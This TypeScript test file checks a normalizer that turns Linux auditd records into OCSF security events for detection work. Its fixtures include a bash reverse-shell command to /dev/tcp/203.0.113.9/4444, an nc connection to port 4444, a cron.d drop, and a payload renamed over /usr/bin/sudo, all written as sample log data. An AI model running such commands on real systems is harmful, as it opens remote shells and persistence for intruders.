import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { AuditdLineDecoder } from '../parsers/auditd.js';
import { processRecord } from '../pipeline/process.js';
import { OCSF_SCHEMA_DIR } from '../testing/ocsf-schema.js';
import { sharedSkip } from '../testing/shared.js';
import { OCSF_COMPILED, validateAuditOcsf } from './auditd-ocsf.testing.js';
import type { OcsfEvent } from './ocsf.js';

const skip = sharedSkip(OCSF_SCHEMA_DIR, OCSF_COMPILED);
const CTX = { source: 'audit-src', receivedAt: Date.UTC(2026, 0, 1) };
const hex = (s: string) => Buffer.from(s, 'utf8').toString('hex').toUpperCase();

/** Lines → the events the real path makes of them (decoder, then processRecord), each schema-checked. */
function events(lines: string[]): OcsfEvent[] {
  const decoder = new AuditdLineDecoder();
  const records = lines.flatMap((l, i) => decoder.push(l, `line ${i + 1}`).records).concat(decoder.end());
  return records.map((r) => {
    const out = processRecord(r, CTX);
    assert.ok(out.ok, out.ok ? '' : out.error.message);
    assert.equal(out.format, 'auditd');
    assert.deepEqual(validateAuditOcsf(out.event), [], JSON.stringify(out.event));
    return out.event;
  });
}

function one(lines: string[]): OcsfEvent {
  const out = events(lines);
  assert.equal(out.length, 1);
  return out[0]!;
}

/** A JSON record through the real path. */
function fromJson(value: Record<string, unknown>): OcsfEvent {
  const out = processRecord({ text: JSON.stringify(value), position: 'json 1' }, CTX);
  assert.ok(out.ok, out.ok ? '' : out.error.message);
  assert.deepEqual(validateAuditOcsf(out.event), [], JSON.stringify(out.event));
  return out.event;
}

const get = (e: unknown, path: string): unknown =>
  path
    .split('.')
    .reduce<unknown>(
      (n, k) => (n !== null && typeof n === 'object' ? (n as Record<string, unknown>)[k] : undefined),
      e,
    );

const SYSCALL = (serial: number, call: number, rest: string) =>
  `type=SYSCALL msg=audit(1700000000.500:${serial}): arch=c000003e syscall=${call} ${rest} ppid=900 pid=901 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=4 comm="tool" exe="/usr/local/bin/tool" key="watch"`;
const EOE = (serial: number) => `type=EOE msg=audit(1700000000.500:${serial}): `;

describe('auditd → Process Activity', { skip }, () => {
  test('execve: command line from EXECVE, exe, cwd, pid/ppid, uid → process.user, auid → actor.user', () => {
    const e = one([
      'type=SYSCALL msg=audit(1700000000.123:4242): arch=c000003e syscall=59 success=yes exit=0 a0=5611 a1=5612 a2=5613 a3=0 items=2 ppid=900 pid=901 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=7 comm="bash" exe="/usr/bin/bash" subj=unconfined key="exec_watch"',
      `type=EXECVE msg=audit(1700000000.123:4242): argc=3 a0="bash" a1="-c" a2=${hex('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')}`,
      'type=CWD msg=audit(1700000000.123:4242): cwd="/tmp"',
      'type=PATH msg=audit(1700000000.123:4242): item=0 name="/usr/bin/bash" inode=1311 dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL',
      'type=EOE msg=audit(1700000000.123:4242): ',
    ]);
    assert.equal(e.class_uid, 1007);
    assert.equal(e.activity_id, 1);
    assert.equal(e.type_uid, 100701);
    assert.equal(e.time, 1700000000123);
    assert.equal(e.metadata.original_time, '1700000000.123');
    assert.equal(e.metadata.original_event_uid, '1700000000.123:4242');
    assert.deepEqual(e.metadata.tags, [{ name: 'audit_key', value: 'exec_watch' }]);
    assert.equal(get(e, 'process.cmd_line'), 'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1');
    assert.equal(get(e, 'process.pid'), 901);
    assert.equal(get(e, 'process.name'), 'bash');
    assert.equal(get(e, 'process.file.path'), '/usr/bin/bash');
    assert.equal(get(e, 'process.file.uid'), '1311');
    assert.equal(get(e, 'process.working_directory'), '/tmp');
    assert.equal(get(e, 'process.user.uid'), '0');
    assert.equal(get(e, 'process.parent_process.pid'), 900);
    assert.deepEqual(get(e, 'process.session'), { uid: '7', terminal: 'pts1' });
    assert.equal(get(e, 'actor.user.uid'), '1000');
    assert.equal(get(e, 'actor.process.pid'), 900);
    assert.equal(e.status_id, 1);
    // No node=: the device is named by the source the lines came from.
    assert.equal(get(e, 'device.name'), 'audit-src');
    assert.equal(get(e, 'device.os.name'), 'Linux');
    assert.equal((e.unmapped as Record<string, unknown>).id, '1700000000.123:4242');
    assert.ok(
      e.observables?.some((o) => o.name === 'process.cmd_line' && o.value.includes('/dev/tcp/203.0.113.9')),
    );
  });

  test('node= names the device; a failed execve is a failed launch with the errno', () => {
    const e = one([
      'node=web01 type=SYSCALL msg=audit(1700000000.500:1): arch=c000003e syscall=59 success=no exit=-2 ppid=1 pid=2 auid=4294967295 uid=33 ses=4294967295 tty=(none) comm="sh" exe="/bin/dash"',
      'node=web01 type=EXECVE msg=audit(1700000000.500:1): argc=1 a0="/tmp/x"',
      'node=web01 type=EOE msg=audit(1700000000.500:1): ',
    ]);
    assert.equal(get(e, 'device.hostname'), 'web01');
    assert.equal(get(e, 'device.name'), undefined);
    assert.equal(e.status_id, 2);
    assert.equal(e.status_code, '-2');
    assert.equal(e.status_detail, 'ENOENT');
    // auid unset: the process's own user acts.
    assert.equal(get(e, 'actor.user.uid'), '33');
    assert.equal(get(e, 'process.session'), undefined);
  });

  test('ENRICHED names: user names from UID/AUID', () => {
    const e = one([
      'type=SYSCALL msg=audit(1.000:3): arch=c00000b7 syscall=221 success=yes exit=0 ppid=1 pid=2 auid=1000 uid=0 comm="id" exe="/usr/bin/id"\x1dARCH=aarch64 SYSCALL=execve AUID="alice" UID="root"',
      'type=EXECVE msg=audit(1.000:3): argc=1 a0="id"',
      'type=EOE msg=audit(1.000:3): ',
    ]);
    assert.equal(e.class_uid, 1007);
    assert.deepEqual(get(e, 'process.user'), { uid: '0', name: 'root' });
    assert.deepEqual(get(e, 'actor.user'), { uid: '1000', name: 'alice' });
    assert.equal(get(e, 'device.hw_info.cpu_architecture'), 'aarch64');
  });

  test('fork/clone: the child is launched; a thread clone is not a process', () => {
    const fork = one([SYSCALL(10, 56, 'success=yes exit=5555 a0=1200011 a1=0'), EOE(10)]);
    assert.equal(fork.class_uid, 1007);
    assert.equal(get(fork, 'process.pid'), 5555);
    assert.equal(get(fork, 'process.parent_process.pid'), 901);
    const thread = one([SYSCALL(11, 56, 'success=yes exit=5556 a0=3d0f00 a1=0'), EOE(11)]);
    assert.equal(thread.class_uid, 0);
  });

  test('ptrace: the traced process from OBJ_PID; POKETEXT is an injection', () => {
    const e = one([
      SYSCALL(12, 101, 'success=yes exit=0 a0=4 a1=29b07b'),
      'type=OBJ_PID msg=audit(1700000000.500:12): opid=2732155 oauid=0 ouid=0 oses=2 obj=unconfined ocomm="sleep"',
      EOE(12),
    ]);
    assert.equal(e.activity_id, 4);
    assert.deepEqual(get(e, 'process'), { pid: 2732155, name: 'sleep', user: { uid: '0' } });
  });
});

describe('auditd → File System Activity', { skip }, () => {
  test('openat creating a file: Create, path from the PARENT item, type and owner from mode/ouid', () => {
    const e = one([
      SYSCALL(20, 257, 'success=yes exit=3 a0=ffffff9c a1=7ffc a2=241 a3=1b6 items=2'),
      'type=CWD msg=audit(1700000000.500:20): cwd="/home/alice"',
      'type=PATH msg=audit(1700000000.500:20): item=0 name="/etc/cron.d/" inode=10 dev=fd:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT',
      'type=PATH msg=audit(1700000000.500:20): item=1 name="evil" inode=11 dev=fd:01 mode=0100644 ouid=1000 ogid=1000 rdev=00:00 nametype=CREATE',
      EOE(20),
    ]);
    assert.equal(e.class_uid, 1001);
    assert.equal(e.activity_id, 1);
    assert.deepEqual(get(e, 'file'), {
      name: 'evil',
      path: '/etc/cron.d/evil',
      type_id: 1,
      type: 'Regular File',
      owner: { uid: '1000' },
      uid: '11',
    });
    assert.equal(get(e, 'actor.process.file.path'), '/usr/local/bin/tool');
    assert.equal(get(e, 'actor.user.uid'), '1000');
    assert.deepEqual(e.metadata.tags, [{ name: 'audit_key', value: 'watch' }]);
  });

  test('open of an existing file relative to the cwd: Open', () => {
    const e = one([
      SYSCALL(21, 2, 'success=yes exit=3 a0=55 a1=0 items=1'),
      'type=CWD msg=audit(1700000000.500:21): cwd="/var/www"',
      'type=PATH msg=audit(1700000000.500:21): item=0 name="./config.php" inode=12 mode=0100640 ouid=33 nametype=NORMAL',
      EOE(21),
    ]);
    assert.equal(e.activity_id, 14);
    assert.equal(get(e, 'file.path'), '/var/www/config.php');
  });

  test('unlink: Delete names the DELETE item; a failure keeps the errno', () => {
    const e = one([
      SYSCALL(22, 87, 'success=no exit=-13 items=2'),
      'type=PATH msg=audit(1700000000.500:22): item=0 name="/var/log/" nametype=PARENT mode=040755',
      'type=PATH msg=audit(1700000000.500:22): item=1 name="/var/log/auth.log" nametype=DELETE mode=0100640',
      EOE(22),
    ]);
    assert.equal(e.activity_id, 4);
    assert.equal(get(e, 'file.path'), '/var/log/auth.log');
    assert.equal(e.status_id, 2);
    assert.equal(e.status_detail, 'EACCES');
  });

  test('rename: the old name is the file, the new one file_result', () => {
    const e = one([
      SYSCALL(23, 82, 'success=yes exit=0 items=4'),
      'type=PATH msg=audit(1700000000.500:23): item=0 name="/tmp/" nametype=PARENT mode=041777',
      'type=PATH msg=audit(1700000000.500:23): item=1 name="/usr/bin/" nametype=PARENT mode=040755',
      'type=PATH msg=audit(1700000000.500:23): item=2 name="/tmp/payload" nametype=DELETE mode=0100755',
      'type=PATH msg=audit(1700000000.500:23): item=3 name="/usr/bin/sudo" nametype=CREATE mode=0100755',
      EOE(23),
    ]);
    assert.equal(e.activity_id, 5);
    assert.equal(get(e, 'file.path'), '/tmp/payload');
    assert.equal(get(e, 'file_result.path'), '/usr/bin/sudo');
  });

  test('chmod: Set Security; a file syscall without a named PATH item is a Base Event', () => {
    const chmod = one([
      SYSCALL(24, 90, 'success=yes exit=0 items=1'),
      'type=PATH msg=audit(1700000000.500:24): item=0 name="/tmp/x" nametype=NORMAL mode=0104755',
      EOE(24),
    ]);
    assert.equal(chmod.activity_id, 7);
    const unnamed = one([SYSCALL(25, 265, 'success=no exit=-14 items=1'), EOE(25)]);
    assert.equal(unnamed.class_uid, 0);
    assert.equal(unnamed.metadata.event_code, 'SYSCALL');
    assert.equal(get(unnamed, 'actor.process.pid'), 901);
  });
});

describe('auditd → Network Activity', { skip }, () => {
  test('connect: the SOCKADDR peer is the destination, outbound', () => {
    const e = one([
      SYSCALL(30, 42, 'success=yes exit=0 a0=3 items=0'),
      'type=SOCKADDR msg=audit(1700000000.500:30): saddr=0200115CCB00710A0000000000000000',
      `type=PROCTITLE msg=audit(1700000000.500:30): proctitle=${hex('nc\x00203.0.113.10\x004444')}`,
      EOE(30),
    ]);
    assert.equal(e.class_uid, 4001);
    assert.equal(e.activity_id, 1);
    assert.deepEqual(e.dst_endpoint, { ip: '203.0.113.10', port: 4444 });
    assert.equal(get(e, 'connection_info.direction_id'), 2);
    assert.equal(get(e, 'connection_info.protocol_ver_id'), 4);
    assert.equal(get(e, 'actor.process.cmd_line'), 'nc 203.0.113.10 4444');
  });

  test('accept: the peer is the source; refused and failed connects', () => {
    const accept = one([
      SYSCALL(31, 43, 'success=yes exit=5'),
      'type=SOCKADDR msg=audit(1700000000.500:31): saddr=0A00D4310000000020010DB8000000000000000000000001000000',
      EOE(31),
    ]);
    assert.deepEqual(accept.src_endpoint, { ip: '2001:db8::1', port: 54321 });
    assert.equal(get(accept, 'connection_info.direction_id'), 1);
    const refused = one([
      SYSCALL(32, 42, 'success=no exit=-111'),
      'type=SOCKADDR msg=audit(1700000000.500:32): saddr=02000016C0A801010000000000000000',
      EOE(32),
    ]);
    assert.equal(refused.activity_id, 5);
    assert.equal(refused.status_detail, 'ECONNREFUSED');
  });

  test('a unix socket connect is not network activity', () => {
    const e = one([
      SYSCALL(33, 42, 'success=yes exit=0'),
      `type=SOCKADDR msg=audit(1700000000.500:33): saddr=0100${hex('/run/docker.sock')}00`,
      EOE(33),
    ]);
    assert.equal(e.class_uid, 0);
    assert.equal(get(e, 'unmapped.SOCKADDR.path'), '/run/docker.sock');
  });
});

describe('auditd → Authentication and Account Change', { skip }, () => {
  test('USER_LOGIN failure from a remote address', () => {
    const e = one([
      'type=USER_LOGIN msg=audit(1493046015.752:42120): pid=18981 uid=0 auid=4294967295 ses=4294967295 msg=\'op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=46.160.144.250 terminal=ssh res=failed\'',
    ]);
    assert.equal(e.class_uid, 3002);
    assert.equal(e.activity_id, 1);
    assert.equal(e.status_id, 2);
    assert.deepEqual(e.user, { name: 'root' });
    assert.deepEqual(e.src_endpoint, { ip: '46.160.144.250' });
    assert.equal(e.is_remote, true);
    assert.deepEqual(e.session, { terminal: 'ssh' });
    assert.deepEqual(e.service, { name: 'sshd' });
    assert.equal(get(e, 'logon_process.pid'), 18981);
  });

  test('USER_AUTH by su is an account switch; USER_END a logoff; id= names the account by uid', () => {
    const su = one([
      'type=USER_AUTH msg=audit(1493162652.324:18669): pid=9730 uid=0 auid=1001 ses=1 msg=\'op=PAM:authentication acct="root" exe="/bin/su" hostname=? addr=? terminal=/dev/pts/0 res=success\'',
    ]);
    assert.equal(su.activity_id, 7);
    assert.equal(su.account_switch_type_id, 1);
    assert.equal(get(su, 'actor.user.uid'), '1001');
    assert.equal(su.src_endpoint, undefined);
    const end = one([
      'type=USER_END msg=audit(1481077043.200:430): pid=1298 uid=0 auid=1000 ses=1 msg=\'op=login id=1000 exe="/usr/sbin/sshd" hostname=host.example addr=96.241.146.97 terminal=/dev/pts/0 res=success\'',
    ]);
    assert.equal(end.activity_id, 2);
    assert.deepEqual(end.user, { uid: '1000' });
    assert.deepEqual(end.src_endpoint, { ip: '96.241.146.97', hostname: 'host.example' });
  });

  test('ADD_USER, USER_CHAUTHTOK and USER_MGMT are account changes', () => {
    const add = one([
      'type=ADD_USER msg=audit(1481076992.488:389): pid=1264 uid=0 auid=1000 ses=3 msg=\'op=add-user acct="mallory" exe="/usr/sbin/useradd" hostname=? addr=? terminal=pts/0 res=success\'',
    ]);
    assert.equal(add.class_uid, 3001);
    assert.equal(add.activity_id, 1);
    assert.deepEqual(add.user, { name: 'mallory' });
    assert.equal(get(add, 'actor.user.uid'), '1000');
    assert.equal(get(add, 'actor.process.name'), 'useradd');
    const passwd = one([
      'type=USER_CHAUTHTOK msg=audit(1493224850.928:21878): pid=10829 uid=1002 auid=1001 ses=41 msg=\'op=PAM:chauthtok acct="akroh" exe="/usr/bin/passwd" hostname=? addr=? terminal=pts/0 res=failed\'',
    ]);
    assert.equal(passwd.activity_id, 3);
    assert.equal(passwd.status_id, 2);
    const mgmt = one([
      'type=USER_MGMT msg=audit(1481076992.521:393): pid=1264 uid=0 auid=4294967295 ses=4294967295 msg=\'op=add-home-dir id=1000 exe="/usr/sbin/useradd" hostname=? addr=? terminal=? res=success\'',
    ]);
    assert.equal(mgmt.activity_id, 99);
    assert.equal(mgmt.activity_name, 'add-home-dir');
    assert.deepEqual(mgmt.user, { uid: '1000' });
  });
});

describe('auditd → Base Event', { skip }, () => {
  test('records with no class of their own keep every field', () => {
    const e = one([
      'type=CONFIG_CHANGE msg=audit(1492743664.836:8068): auid=1001 ses=6 op="updated_rules" path="/etc/gshadow" key="auth" list=4 res=1',
    ]);
    assert.equal(e.class_uid, 0);
    assert.equal(e.metadata.event_code, 'CONFIG_CHANGE');
    assert.equal(get(e, 'unmapped.CONFIG_CHANGE.path'), '/etc/gshadow');
    assert.deepEqual(e.metadata.tags, [{ name: 'audit_key', value: 'auth' }]);
  });

  test('an anomaly ranks higher', () => {
    const e = one([
      'type=ANOM_PROMISCUOUS msg=audit(1708689989.768:339749193): dev=veth5f40f62 prom=256 old_prom=0 auid=4294967295 uid=0 gid=0 ses=4294967295',
    ]);
    assert.equal(e.severity_id, 3);
  });

  test('a line that is not audit is kept with the parse error; a line without an id at the receive time', () => {
    const [junk, headless] = events(['hello world', 'type=UNKNOWN[1329] msg=?']);
    assert.equal(junk!.class_uid, 0);
    assert.equal(junk!.status, 'Parse Error');
    assert.match(String(junk!.status_detail), /line 1: not an audit record line/);
    assert.equal(junk!.raw_data, 'hello world');
    assert.equal(headless!.time, CTX.receivedAt);
    assert.equal(headless!.metadata.event_code, 'UNKNOWN[1329]');
  });
});

describe('auditd inside JSON', { skip }, () => {
  test('LAUREL JSON maps like the raw lines', () => {
    const e = fromJson({
      ID: '1626611363.720:348501',
      SYSCALL: {
        arch: '0xc000003e',
        syscall: 59,
        success: 'yes',
        exit: 0,
        ppid: 722076,
        pid: 724395,
        auid: 1000,
        uid: 0,
        tty: 'pts3',
        ses: 3,
        comm: 'perl',
        exe: '/usr/bin/perl',
        key: null,
        AUID: 'user',
        UID: 'root',
        ARGV: ['0x55c094deb5c0', '0x55c094dea770', '0x55c094dbf1b0', '0xfffffffffffff286'],
      },
      EXECVE: { argc: 3, ARGV: ['perl', '-e', 'print 1'] },
      CWD: { cwd: '/root' },
      PATH: [
        { item: 0, name: '/usr/bin/perl', inode: 401923, mode: '0o100755', ouid: 0, nametype: 'NORMAL' },
      ],
      PARENT_INFO: { ID: '1626611363.700:348400', comm: 'bash', exe: '/usr/bin/bash', ppid: 700000 },
    });
    assert.equal(e.metadata.event_code, 'SYSCALL');
    assert.equal(get(e, 'actor.process.name'), 'bash');
    assert.equal(get(e, 'actor.process.file.path'), '/usr/bin/bash');
    assert.equal(get(e, 'unmapped.PARENT_INFO.comm'), 'bash');
    assert.equal(e.class_uid, 1007);
    assert.equal(get(e, 'process.cmd_line'), 'perl -e print 1');
    assert.equal(get(e, 'process.file.type_id'), 1);
    assert.deepEqual(get(e, 'actor.user'), { uid: '1000', name: 'user' });
    assert.equal(e.time, 1626611363720);
  });

  test('LAUREL SOCKADDR (percent-encoded bytes) on a big-endian machine', () => {
    const e = fromJson({
      ID: '1708028025.033:10',
      SYSCALL: {
        arch: '0x80000015',
        syscall: 327,
        success: 'yes',
        exit: 0,
        pid: 2650,
        ppid: 2649,
        exe: '/usr/bin/nc',
      },
      SOCKADDR: [{ saddr: '%00%02%d9%03%00%00%00%00%00%00%00%00%00%00%00%00' }],
    });
    assert.equal(e.activity_id, 7);
    assert.deepEqual(e.dst_endpoint, { ip: '0.0.0.0', port: 55555 });
  });

  test('an audit line in a shipper envelope: the envelope host names the device and is kept', () => {
    const e = fromJson({
      '@timestamp': '2024-01-01T00:00:00Z',
      host: { name: 'db02' },
      message:
        'type=USER_LOGIN msg=audit(1700000000.000:77): pid=1 uid=0 auid=4294967295 ses=4294967295 msg=\'op=login acct="bob" exe="/usr/sbin/sshd" hostname=? addr=198.51.100.7 terminal=ssh res=success\'',
    });
    assert.equal(e.class_uid, 3002);
    assert.equal(get(e, 'device.hostname'), 'db02');
    assert.deepEqual(e.dst_endpoint, { hostname: 'db02' });
    assert.equal(get(e, 'unmapped.envelope.@timestamp'), '2024-01-01T00:00:00Z');
  });

  test("go-libaudit's parsed messages (raw_msg + record_type)", () => {
    const e = fromJson({
      record_type: 'user_login',
      raw_msg:
        'audit(1492896301.818:19955): pid=12635 uid=0 auid=4294967295 ses=4294967295 msg=\'op=login acct=28696E76616C6964207573657229 exe="/usr/sbin/sshd" hostname=? addr=179.38.151.221 terminal=sshd res=failed\'',
    });
    assert.equal(e.class_uid, 3002);
    assert.deepEqual(e.user, { name: '(invalid user)' });
    assert.equal(e.status_id, 2);
  });

  test('JSON without audit data is left to the other normalizers', () => {
    const out = processRecord({ text: '{"message":"type=not audit","ID":"x"}', position: 'p' }, CTX);
    assert.ok(out.ok);
    assert.notEqual(out.event.metadata.product.name, 'auditd');
  });
});
